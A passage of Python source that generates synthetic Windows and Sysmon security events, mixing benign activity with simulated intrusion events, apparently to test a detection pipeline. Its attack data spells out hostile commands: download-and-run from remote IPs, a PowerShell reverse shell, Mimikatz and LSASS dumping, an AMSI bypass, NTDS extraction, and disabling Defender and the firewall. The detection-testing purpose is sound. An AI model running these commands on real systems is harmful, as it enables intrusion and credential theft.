    Launch("cmd.exe", ("cmd.exe /c powershell -w hidden -c \"iwr http://103.56.53.120/a.exe -OutFile "
                       "$env:TEMP\\a.exe; & $env:TEMP\\a.exe\"",
                       'cmd.exe /c ping 127.0.0.1 -n 5 > nul & del /f /q "C:\\Users\\Public\\update.exe"',
                       "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1710057600.123 2>&1"),
           ("winword.exe", "excel.exe", "wmiprvse.exe"), "user", "Medium"),
    Launch("procdump64.exe", ("C:\\Users\\Public\\procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp",),
           ("cmd.exe",), "admin", "High"),
    Launch("m.exe", ('C:\\Users\\Public\\m.exe "privilege::debug" "sekurlsa::logonpasswords" exit',),
           ("cmd.exe",), "admin", "High"),
    Launch("adfind.exe", ("C:\\Users\\Public\\AdFind.exe -f (objectcategory=computer)",
                          'C:\\Users\\Public\\AdFind.exe -sc trustdmp'), ("cmd.exe",), "user", "Medium"),
    Launch("ntdsutil.exe", ('ntdsutil.exe "ac i ntds" "ifm" "create full c:\\temp\\ntds" q q',), ("cmd.exe",),
           "admin", "High"),
    Launch("sc.exe", ("sc.exe config WinDefend start= disabled", "sc  stop WinDefend"), ("cmd.exe",), "admin", "High"),
    Launch("netsh.exe", ("netsh advfirewall set allprofiles state off",
                         "netsh firewall add portopening TCP 3389 RDP"), ("cmd.exe",), "admin", "High"),
    Launch("curl.exe", (f"curl.exe {C2}/a.exe -o C:\\Users\\Public\\a.exe",), ("cmd.exe",), "user", "Medium"),
    Launch("rar.exe", ('"C:\\Program Files\\WinRAR\\Rar.exe" a -hpP@ss2025 C:\\Users\\Public\\data.rar '
                       "C:\\Users\\{u}\\Documents\\*",), ("cmd.exe",), "user", "Medium"),
    Launch("psexec64.exe", ("C:\\Users\\Public\\PsExec64.exe \\\\srv-file01 -accepteula -s -d cmd.exe /c "
                            "C:\\Users\\Public\\update.exe",), ("cmd.exe",), "admin", "High"),
    Launch("systeminfo.exe", ("systeminfo",), ("cmd.exe",), "user", "Medium"),
)

EXTERNAL = (("142.250.199.68", "www.google.com"), ("142.250.66.110", "clients2.google.com"),
            ("13.107.42.14", "outlook.office365.com"), ("20.190.160.20", "login.microsoftonline.com"),
            ("52.109.8.21", "nexus.officeapps.live.com"), ("13.107.213.41", "edge.microsoft.com"),
            ("23.200.238.14", "ctldl.windowsupdate.com"), ("20.72.235.82", "settings-win.data.microsoft.com"),
            ("203.162.71.24", "dichvucong.gov.vn"), ("111.65.248.132", "vnexpress.net"),
            ("49.213.118.124", "chat.zalo.me"), ("142.250.71.35", "fonts.gstatic.com"),
            ("142.250.204.106", "fonts.googleapis.com"), ("52.113.194.132", "teams.microsoft.com"),
            ("14.225.7.34", f"qlvb.{FQDN}"), ("123.30.187.50", "tuoitre.vn"))
ATTACK_DOMAINS = (("3.134.39.220", "4.tcp.ngrok.io"), ("104.20.68.143", "pastebin.com"),
                  ("144.76.136.153", "transfer.sh"), ("149.154.167.220", "api.telegram.org"),
                  ("185.199.108.133", "raw.githubusercontent.com"), ("45.76.180.12", "office365-update.duckdns.org"))
SCRIPTS = (
    "Set-StrictMode -Version 1; $_.PSMessageDetails",
    "$global:?",
    "prompt",
    "{ Set-StrictMode -Version 1; $this.Exception.InnerException.PSMessageDetails }",
    "# Copyright (c) Microsoft Corporation. All rights reserved.\nfunction Get-DiskUsage {\n param([string]$Path = "
    "'C:\\')\n Get-ChildItem -Path $Path -Recurse -ErrorAction SilentlyContinue | Measure-Object -Property Length "
    "-Sum\n}",
    "Import-Module ActiveDirectory\nGet-ADGroupMember -Identity 'GG_SoTC_KeToan' | Select-Object Name, SamAccountName",
    "Get-ChildItem -Path '\\\\srv-file01.ankhanh.gov.vn\\share\\BaoCao' -Filter *.docx | Sort-Object LastWriteTime "
    "-Descending | Select-Object -First 10",
    "Get-Service -Name Spooler | Select-Object Status",
    "Get-Printer | Where-Object { $_.PrinterStatus -ne 'Normal' }",
    "$ErrorActionPreference = 'Stop'\n$log = 'C:\\ProgramData\\ankhanh\\inventory.log'\n$os = Get-CimInstance "
    "Win32_OperatingSystem\nAdd-Content -Path $log -Value \"$env:COMPUTERNAME $($os.Version) $(Get-Date -Format s)\"",
)
ATTACK_SCRIPTS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://45.76.180.12/Invoke-Mimikatz.ps1'); Invoke-Mimikatz "
    "-DumpCreds",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"
    ".SetValue($null,$true)",
    "$client = New-Object System.Net.Sockets.TCPClient('45.76.180.12',4444);$stream = $client.GetStream();[byte[]]"
    "$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -Type"
    "Name System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}",
    "Get-ADComputer -Filter * -Properties * | Export-Csv C:\\Users\\Public\\computers.csv -NoTypeInformation",
    "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\\Users\\Public'",
    "Invoke-WebRequest -Uri http://103.56.53.120/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
)


@dataclass(frozen=True, slots=True)
class Host:
    name: str
    ip: str
    dept: str
    user: str  # sAMAccountName of the usual user ("" on servers)
    user_sid: str
    logon_id: str


class _Clock:
    """Monotonic event time with exponential gaps; formats without strftime on the hot path."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.us = int(START.timestamp() * 1_000_000)
        self._minute = -1
        self._iso = self._utc = ""

    def tick(self) -> tuple[str, str]:
        """(TimeCreated ISO with Z, Sysmon UtcTime) of the next event."""
        self.us += int(self.rng.expovariate(1.0) * MEAN_GAP_US) + 1
        seconds, micro = divmod(self.us, 1_000_000)
        minute, second = divmod(seconds, 60)
        if minute != self._minute:
            self._minute = minute
            stamp = datetime.fromtimestamp(minute * 60, UTC)
            self._iso, self._utc = stamp.strftime("%Y-%m-%dT%H:%M:"), stamp.strftime("%Y-%m-%d %H:%M:")
        return f"{self._iso}{second:02d}.{micro:06d}Z", f"{self._utc}{second:02d}.{micro // 1000:03d}"


class _Generator:
    """Builds the world (hosts, users, hashes) from the seed, then one event at a time."""

    def __init__(self, seed: int):
        self.rng = rng = random.Random(seed)
        self.clock = _Clock(rng)
        self.hosts = self._hosts()
        self.workstations = [h for h in self.hosts if h.user]
        self.servers = [h for h in self.hosts if not h.user]
        self.compromised = rng.sample(self.workstations, 4)
        self.admin = f"{DOMAIN}\\admin.{rng.choice(GIVEN)}"
        self.hashes = {name: self._hash_text() for name in PROGRAMS}
        self.records: dict[tuple[str, str], int] = {}
        self.benign_weights = [launch.weight for launch in BENIGN_LAUNCHES]
        self.builders = {
            "1": self._process_creation, "3": self._network, "7": self._image_load, "11": self._file_create,
            "13": self._registry_set, "22": self._dns, "10": self._process_access, "4624": self._logon,
            "4625": self._failed_logon, "4688": self._security_process, "4720": self._user_created,
            "4104": self._script_block,
        }

    def _hosts(self) -> list[Host]:
        rng = self.rng
        hosts = []
        for d, dept in enumerate(DEPARTMENTS):
            for n in range(1, rng.randint(15, 40)):
                user = f"{rng.choice(GIVEN)}{rng.choice(FAMILY)[0]}{rng.choice(MIDDLE)[0]}"
                hosts.append(Host(f"ws-{dept}-{n:03d}.{FQDN}", f"10.{20 + d}.{1 + n // 200}.{10 + n % 200}", dept,
                                  user, f"{DOMAIN_SID}-{1100 + len(hosts)}", f"0x{rng.getrandbits(24):x}"))
        for n, name in enumerate(SERVERS):
            hosts.append(Host(f"{name}.{FQDN}", f"10.10.0.{10 + n}", "sotttt", "", "", ""))
        return hosts

    def _hash_text(self) -> str:
        bits = self.rng.getrandbits
        return (f"SHA1={bits(160):040X},MD5={bits(128):032X},SHA256={bits(256):064X},"
                f"IMPHASH={bits(128):032X}")

    def _guid(self) -> str:
        h = f"{self.rng.getrandbits(128):032x}"
        return f"{{{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}}}"

    def _pid(self) -> int:
        return 4 * (100 + self.rng.getrandbits(12))

    def events(self) -> Iterator[dict[str, str]]:
        types = list(EVENT_TYPES)
        weights = list(EVENT_TYPES.values())
        while True:
            for channel, event_id in self.rng.choices(types, weights, k=CHUNK):
                yield self.builders[event_id](channel, event_id)

    def _header(self, channel: str, event_id: str, host: Host) -> dict[str, str]:
        key = (host.name, channel)
        record = self.records.get(key) or 100_000 + self.rng.getrandbits(20)
        self.records[key] = record + 1
        created, utc = self.clock.tick()
        fields = {"EventID": event_id, "Channel": channel, "Computer": host.name, "EventRecordID": str(record),
                  "Provider_Name": PROVIDERS[channel], "TimeCreated": created}
        if channel == SYSMON:
            fields["RuleName"] = "-"
            fields["UtcTime"] = utc
        return fields

    def _pick(self) -> tuple[Host, bool]:
        """The host of the next event and whether it is an attack event."""
        rng = self.rng
        if rng.random() < SUSPICIOUS_RATE:
            return rng.choice(self.compromised), True
        return (rng.choice(self.workstations) if rng.random() < 0.9 else rng.choice(self.servers)), False

    def _account(self, launch: Launch, host: Host) -> tuple[str, str, str]:
        """(User, LogonId, IntegrityLevel) of a launch on a host."""
        if launch.account in SERVICE_LOGON_IDS:
            return launch.account, SERVICE_LOGON_IDS[launch.account], launch.integrity
        if launch.account == "admin" or not host.user:
            return self.admin, "0x3a91f2", "High"
        return f"{DOMAIN}\\{host.user}", host.logon_id, launch.integrity

    def _fill(self, template: str, host: Host) -> str:
        if "{" not in template:
            return template
        return template.format(u=host.user or "Administrator", d=host.dept, doc=self.rng.choice(DOCUMENTS),
                               n=self._pid())

    def _launch(self, host: Host, attack: bool) -> tuple[Launch, Program, str, str, str, str, str, str]:
        """(launch, program, CommandLine, parent name, ParentCommandLine, User, LogonId, IntegrityLevel)."""
        rng = self.rng
        launch = rng.choice(ATTACK_LAUNCHES) if attack else rng.choices(BENIGN_LAUNCHES, self.benign_weights)[0]
        parent = rng.choice(launch.parents)
        user, logon_id, integrity = self._account(launch, host)
        return (launch, PROGRAMS[launch.program], self._fill(rng.choice(launch.commands), host), parent,
                self._fill(PARENT_COMMANDS[parent], host), user, logon_id, integrity)

    def _process_creation(self, channel: str, event_id: str) -> dict[str, str]:
        host, attack = self._pick()
        launch, program, command, parent, parent_command, user, logon_id, integrity = self._launch(host, attack)
        f = self._header(channel, event_id, host)
        f.update({
            "ProcessGuid": self._guid(), "ProcessId": str(self._pid()), "Image": program.image,
            "FileVersion": program.version, "Description": program.description, "Product": program.product,
            "Company": program.company, "OriginalFileName": program.original, "CommandLine": command,
            "CurrentDirectory": f"C:\\Users\\{host.user}\\" if user.startswith(DOMAIN) and host.user
            else "C:\\Windows\\system32\\",
            "User": user, "LogonGuid": self._guid(), "LogonId": logon_id,
            "TerminalSessionId": "0" if logon_id in SERVICE_LOGON_IDS.values() else "1",
            "IntegrityLevel": integrity, "Hashes": self.hashes[launch.program],
            "ParentProcessGuid": self._guid(), "ParentProcessId": str(self._pid()),
            "ParentImage": PROGRAMS[parent].image, "ParentCommandLine": parent_command,
            "ParentUser": SYSTEM if parent in ("services.exe", "svchost.exe", "wmiprvse.exe") else user,
        })
        return f

    def _security_process(self, channel: str, event_id: str) -> dict[str, str]:
        host, attack = self._pick()
        _, program, command, parent, _, user, logon_id, integrity = self._launch(host, attack)
        domain, _, name = user.partition("\\")
        f = self._header(channel, event_id, host)
        f.update({
            "SubjectUserSid": host.user_sid if domain == DOMAIN and host.user_sid else "S-1-5-18",
            "SubjectUserName": name if domain == DOMAIN else f"{host.name.split('.')[0].upper()}$",
            "SubjectDomainName": DOMAIN, "SubjectLogonId": logon_id, "NewProcessId": f"0x{self._pid():x}",
            "NewProcessName": program.image, "TokenElevationType": "%%1937" if integrity == "High" else "%%1938",
            "ProcessId": f"0x{self._pid():x}", "CommandLine": command, "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
            "ParentProcessName": PROGRAMS[parent].image, "MandatoryLabel": LABELS[integrity],
        })
        return f

    def _process_fields(self, image: str, user: str) -> dict[str, str]:
        return {"ProcessGuid": self._guid(), "ProcessId": str(self._pid()), "Image": image, "User": user}

    def _user_of(self, host: Host) -> str:
        return f"{DOMAIN}\\{host.user}" if host.user else SYSTEM

    def _network(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        f = self._header(channel, event_id, host)
        if attack:
            image = rng.choice((POWERSHELL_EXE, SYS32 + "rundll32.exe", SYS32 + "mshta.exe", SYS32 + "certutil.exe"))
            ip, name = rng.choice(ATTACK_DOMAINS)
            port = rng.choice(("4444", "443", "8080", "80"))
            user = self._user_of(host)
        elif rng.random() < 0.25:
            server = rng.choice(self.servers)
            ip, name, port = server.ip, server.name, rng.choice(("389", "88", "445", "135", "53", "8530"))
            image, user = (SYS32 + "lsass.exe", SYSTEM) if port == "88" else (SYS32 + "svchost.exe", NETWORK_SERVICE)
        else:
            image = rng.choice((CHROME, CHROME, EDGE, PROGRAMS["ms-teams.exe"].image, PROGRAMS["zalo.exe"].image,
                                PROGRAMS["browser.exe"].image))
            ip, name = rng.choice(EXTERNAL)
            port, user = rng.choice(("443", "443", "443", "80")), self._user_of(host)
        f.update(self._process_fields(image, user))
        f.update({
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": host.ip,
            "SourceHostname": host.name, "SourcePort": str(49152 + rng.getrandbits(14)), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": ip, "DestinationHostname": name,
            "DestinationPort": port, "DestinationPortName": {"443": "https", "80": "http", "389": "ldap",
                                                             "88": "kerberos", "445": "microsoft-ds",
                                                             "53": "domain"}.get(port, "-"),
        })
        return f

    def _image_load(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        f = self._header(channel, event_id, host)
        if attack:
            image, loaded, signature = rng.choice((
                (PROGRAMS["m.exe"].image, SYS32 + "vaultcli.dll", "Microsoft Windows"),
                (PROGRAMS["m.exe"].image, SYS32 + "samlib.dll", "Microsoft Windows"),
                (SYS32 + "rundll32.exe", SYS32 + "comsvcs.dll", "Microsoft Windows"),
                (PROGRAMS["winword.exe"].image, SYS32 + "vbe7.dll", "Microsoft Corporation"),
                (SYS32 + "rundll32.exe", "C:\\Users\\Public\\update.dll", ""),
            ))
        else:
            image = rng.choice((CHROME, EDGE, SYS32 + "svchost.exe", PROGRAMS["winword.exe"].image,
                                PROGRAMS["excel.exe"].image, "C:\\Windows\\explorer.exe", POWERSHELL_EXE,
                                PROGRAMS["zalo.exe"].image))
            if image == POWERSHELL_EXE:
                loaded = rng.choice(("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
                                     "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\"
                                     "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6\\System.Management.Automation.ni.dll",
                                     SYS32 + "amsi.dll"))
            else:
                loaded = SYS32 + rng.choice(("kernel32.dll", "ntdll.dll", "user32.dll", "combase.dll", "wintrust.dll",
                                             "crypt32.dll", "ws2_32.dll", "bcrypt.dll", "winhttp.dll", "dnsapi.dll"))
            signature = "Microsoft Windows"
        name = loaded.rsplit("\\", 1)[1]
        f.update(self._process_fields(image, self._user_of(host)))
        f.update({
            "ImageLoaded": loaded, "FileVersion": "10.0.19041.3636 (WinBuild.160101.0800)" if signature else "-",
            "Description": name.split(".")[0] if signature else "-",
            "Product": "Microsoft® Windows® Operating System" if signature else "-",
            "Company": "Microsoft Corporation" if signature else "-", "OriginalFileName": name if signature else "-",
            "Hashes": self._hash_text(), "Signed": "true" if signature else "false", "Signature": signature or "-",
            "SignatureStatus": "Valid" if signature else "Unavailable",
        })
        return f

    def _file_create(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        u = host.user or "Administrator"
        f = self._header(channel, event_id, host)
        if attack:
            image, target = rng.choice((
                (SYS32 + "rundll32.exe", "C:\\Windows\\Temp\\debug.bin"),
                (PROGRAMS["procdump64.exe"].image, "C:\\Windows\\Temp\\ls.dmp"),
                (SYS32 + "certutil.exe", "C:\\Users\\Public\\update.exe"),
                (POWERSHELL_EXE, f"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\"
                                 "Startup\\update.lnk"),
                (SYS32 + "wscript.exe", f"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs"
                                        "\\Startup\\svchost.vbs"),
                (SYS32 + "reg.exe", "C:\\Windows\\Temp\\sam.save"),
                (PROGRAMS["rar.exe"].image, "C:\\Users\\Public\\data.rar"),
            ))
        else:
            doc = rng.choice(DOCUMENTS)
            image, target = rng.choice((
                (CHROME, f"C:\\Users\\{u}\\Downloads\\{doc}.pdf"),
                (CHROME, f"C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\"
                         f"f_{rng.getrandbits(24):06x}"),
                (PROGRAMS["winword.exe"].image, f"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Word\\~WRL"
                                                f"{rng.getrandbits(12):04d}.tmp"),
                (PROGRAMS["winword.exe"].image, f"C:\\Users\\{u}\\Documents\\{doc}.docx"),
                (PROGRAMS["excel.exe"].image, f"C:\\Users\\{u}\\Documents\\{doc}.xlsx"),
                (SYS32 + "svchost.exe", f"C:\\Windows\\Prefetch\\CHROME.EXE-{rng.getrandbits(32):08X}.pf"),
                (PROGRAMS["msmpeng.exe"].image, "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\"
                                                 f"CacheManager\\{rng.getrandbits(32):08X}-0.bin"),
                (PROGRAMS["zalo.exe"].image, f"C:\\Users\\{u}\\AppData\\Roaming\\ZaloPC\\{doc}.jpg"),
                (POWERSHELL_EXE, f"C:\\Users\\{u}\\AppData\\Local\\Temp\\__PSScriptPolicyTest_"
                                 f"{rng.getrandbits(40):010x}.ps1"),
                ("C:\\Windows\\explorer.exe", f"C:\\Users\\{u}\\Desktop\\{doc}.docx"),
            ))
        f.update(self._process_fields(image, self._user_of(host)))
        f["TargetFilename"] = target
        f["CreationUtcTime"] = f["UtcTime"]
        return f

    def _registry_set(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        hku = f"HKU\\{host.user_sid or 'S-1-5-18'}"
        f = self._header(channel, event_id, host)
        if attack:
            image, key, details = rng.choice((
                (SYS32 + "reg.exe", f"{hku}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                 "C:\\Users\\Public\\update.exe"),
                (SYS32 + "reg.exe", "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\"
                                    "UseLogonCredential", "DWORD (0x00000001)"),
                (POWERSHELL_EXE, "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                 "DWORD (0x00000001)"),
                (SYS32 + "reg.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
                                    "Options\\sethc.exe\\Debugger", "C:\\Windows\\System32\\cmd.exe"),
                (SYS32 + "services.exe", "HKLM\\System\\CurrentControlSet\\Services\\UpdaterSvc\\ImagePath",
                 "C:\\Users\\Public\\update.exe"),
            ))
        else:
            image, key, details = rng.choice((
                (SYS32 + "svchost.exe", "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\"
                                        f"{host.user_sid or 'S-1-5-18'}\\\\Device\\HarddiskVolume3\\Program Files\\"
                                        "Google\\Chrome\\Application\\chrome.exe", "Binary Data"),
                ("C:\\Windows\\explorer.exe", f"{hku}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
                                              "UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\"
                                              "HRZR_PGYFRFFVBA", "Binary Data"),
                (PROGRAMS["winword.exe"].image, f"{hku}\\Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations"
                                                "\\Document 0\\Position", "12345 0"),
                (SYS32 + "svchost.exe", "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\"
                                        "LastKnownGoodTime", f"QWORD (0x01db{rng.getrandbits(16):04x}-0x3c4f1a00)"),
                (PROGRAMS["msmpeng.exe"].image, "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\"
                                                 "SignaturesLastUpdated", "Binary Data"),
                (CHROME, f"{hku}\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\homepage", "Binary Data"),
                (SYS32 + "svchost.exe", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Publishers\\"
                                        "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}\\Enabled", "DWORD (0x00000001)"),
            ))
        f["EventType"] = "SetValue"
        f.update(self._process_fields(image, self._user_of(host)))
        f["TargetObject"] = key
        f["Details"] = details
        return f

    def _dns(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        f = self._header(channel, event_id, host)
        if attack:
            ip, name = rng.choice(ATTACK_DOMAINS)
            image = rng.choice((POWERSHELL_EXE, SYS32 + "rundll32.exe", SYS32 + "certutil.exe"))
        else:
            ip, name = rng.choice(EXTERNAL)
            image = rng.choice((CHROME, EDGE, PROGRAMS["ms-teams.exe"].image, PROGRAMS["zalo.exe"].image,
                                SYS32 + "svchost.exe"))
        f.update(self._process_fields(image, self._user_of(host)))
        f.update({"QueryName": name, "QueryStatus": "0", "QueryResults": f"::ffff:{ip};"})
        return f

    def _process_access(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        f = self._header(channel, event_id, host)
        lsass = SYS32 + "lsass.exe"
        if attack:
            source, target, access, trace = rng.choice((
                (SYS32 + "rundll32.exe", lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\"
                 "System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+2bd8b|UNKNOWN(000001E5A3B0C2D1)"),
                (PROGRAMS["procdump64.exe"].image, lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                 "C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6fe1"),
                (PROGRAMS["m.exe"].image, lsass, "0x1010", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\"
                 "System32\\KERNELBASE.dll+2c13e|C:\\Users\\Public\\m.exe+c1d2e"),
            ))
        else:
            source, target, access, trace = rng.choice((
                (PROGRAMS["msmpeng.exe"].image, lsass, "0x1000", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows"
                 "\\System32\\KERNELBASE.dll+2c13e|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\"
                 "4.18.24020.7-0\\mpengine.dll+3e8a1b"),
                (SYS32 + "svchost.exe", CHROME, "0x1000", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\"
                 "System32\\KERNELBASE.dll+2c13e|c:\\windows\\system32\\rpcss.dll+2e1f"),
                (SYS32 + "csrss.exe", "C:\\Windows\\explorer.exe", "0x1400", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4"),
                (CHROME, CHROME, "0x1000", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Program Files\\Google\\"
                 "Chrome\\Application\\122.0.6261.112\\chrome.dll+1f3a2c"),
                (SYS32 + "wbem\\WmiPrvSE.exe", SYS32 + "svchost.exe", "0x1410", "C:\\Windows\\SYSTEM32\\"
                 "ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|c:\\windows\\system32\\wbem\\"
                 "cimwin32.dll+1b2c4"),
            ))
        f.update({
            "SourceProcessGUID": self._guid(), "SourceProcessId": str(self._pid()),
            "SourceThreadId": str(self._pid()), "SourceImage": source, "TargetProcessGUID": self._guid(),
            "TargetProcessId": str(self._pid()), "TargetImage": target, "GrantedAccess": access, "CallTrace": trace,
            "SourceUser": self.admin if attack else SYSTEM, "TargetUser": SYSTEM,
        })
        return f

    def _logon_fields(self, host: Host, logon_type: str) -> dict[str, str]:
        kerberos = self.rng.random() < 0.8
        return {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
            "TargetUserSid": host.user_sid or "S-1-5-18", "TargetUserName": host.user or "SYSTEM",
            "TargetDomainName": DOMAIN, "LogonType": logon_type,
            "LogonProcessName": "Kerberos" if kerberos else "NtLmSsp ",
            "AuthenticationPackageName": "Kerberos" if kerberos else "NTLM",
            "WorkstationName": host.name.split(".")[0].upper(), "TransmittedServices": "-",
            "LmPackageName": "-" if kerberos else "NTLM V2", "KeyLength": "0" if kerberos else "128",
            "ProcessId": "0x0", "ProcessName": "-", "IpAddress": host.ip,
            "IpPort": str(49152 + self.rng.getrandbits(14)),
            "ImpersonationLevel": "%%1833", "VirtualAccount": "%%1843", "ElevatedToken": "%%1842",
        }

    def _logon(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        target = rng.choice(self.servers)
        f = self._header(channel, event_id, target)
        f.update(self._logon_fields(host, rng.choice(("3", "3", "3", "2", "7", "10", "11"))))
        f["TargetLogonId"] = f"0x{rng.getrandbits(28):x}"
        f["LogonGuid"] = self._guid()
        if attack:
            f.update(rng.choice((
                {"LogonType": "9", "LogonProcessName": "seclogo", "AuthenticationPackageName": "Negotiate",
                 "ProcessName": SYS32 + "svchost.exe", "TargetOutboundUserName": "admin"},
                {"LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
                 "KeyLength": "0", "LmPackageName": "NTLM V2", "TargetUserName": self.admin.split("\\")[1]},
                {"LogonType": "10", "IpAddress": rng.choice(ATTACKER_IPS), "WorkstationName": "kali"},
            )))
        return f

    def _failed_logon(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        target = rng.choice(self.servers)
        f = self._header(channel, event_id, target)
        f.update(self._logon_fields(host, rng.choice(("3", "2", "10"))))
        f.update({"Status": "0xc000006d", "SubStatus": rng.choice(("0xc000006a", "0xc000006a", "0xc0000064")),
                  "FailureReason": "%%2313"})
        if attack:
            f.update({"TargetUserName": rng.choice(("administrator", "admin", "guest", "test")),
                      "IpAddress": rng.choice(ATTACKER_IPS), "WorkstationName": "-", "SubStatus": "0xc0000064"})
        return f

    def _user_created(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        _, attack = self._pick()
        dc = self.servers[0]
        f = self._header(channel, event_id, dc)
        name = "supportsvc" if attack else f"{rng.choice(GIVEN)}{rng.choice(FAMILY)[0]}{rng.choice(MIDDLE)[0]}"
        f.update({
            "TargetUserName": name, "TargetDomainName": DOMAIN,
            "TargetSid": f"{DOMAIN_SID}-{5000 + rng.getrandbits(12)}",
            "SubjectUserSid": f"{DOMAIN_SID}-500", "SubjectUserName": self.admin.split("\\")[1],
            "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3a91f2", "PrivilegeList": "-", "SamAccountName": name,
            "DisplayName": "%%1793", "UserPrincipalName": f"{name}@{FQDN}", "HomeDirectory": "%%1793",
            "HomePath": "%%1793", "ScriptPath": "%%1793", "ProfilePath": "%%1793", "UserWorkstations": "%%1793",
            "PasswordLastSet": "%%1794", "AccountExpires": "%%1794", "PrimaryGroupId": "513",
            "AllowedToDelegateTo": "-", "OldUacValue": "0x0", "NewUacValue": "0x15",
            "UserAccountControl": "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "UserParameters": "%%1793",
            "SidHistory": "-", "LogonHours": "%%1797",
        })
        return f

    def _script_block(self, channel: str, event_id: str) -> dict[str, str]:
        rng = self.rng
        host, attack = self._pick()
        f = self._header(channel, event_id, host)
        f.update({"MessageNumber": "1", "MessageTotal": "1",
                  "ScriptBlockText": rng.choice(ATTACK_SCRIPTS if attack else SCRIPTS),
                  "ScriptBlockId": self._guid()[1:-1]})
        return f


def generate(n: int, seed: int = 0) -> Iterator[dict[str, str]]:
    """The first `n` events of the corpus of `seed`."""
    return islice(_Generator(seed).events(), n)


def write_lake(n: int, seed: int, path: Path, rows_per_file: int = 50_000) -> None:
    """Write the corpus as the Parquet events lake layers/detect.py stages (hive partitions date=/kind=)."""
    from layers.detect import EVENT_SCHEMA  # pulls in pyspark: only when a lake is written
    from socpipe.lake import write_lake_part

    rows: list[dict[str, str]] = []
    part = 0

    def flush() -> None:
        nonlocal part
        write_lake_part(lake_table(rows, part * rows_per_file, EVENT_SCHEMA), path, f"part-{part:05d}")
        part += 1
        rows.clear()

    for fields in generate(n, seed):
        rows.append(fields)
        if len(rows) >= rows_per_file:
            flush()
    if rows:
        flush()


def lake_table(rows: list[dict[str, str]], first: int, schema: pa.Schema) -> pa.Table:
    """Corpus events `first`, `first + 1`, ... as lake rows (`schema`: EVENT_SCHEMA); the map column is built
    from flat arrays, not per row."""
    offsets, keys, values = [0], [], []
    for fields in rows:
        keys.extend(fields)
        values.extend(fields.values())
        offsets.append(len(keys))
    stamps = [datetime.fromisoformat(f["TimeCreated"]) for f in rows]
    nulls = pa.nulls(len(rows))
    columns: dict[str, Any] = {
        "event_id": pa.array([event_identity(WINDOWS, f) for f in rows], pa.string()),
        "kind": pa.array([WINDOWS] * len(rows), pa.string()),
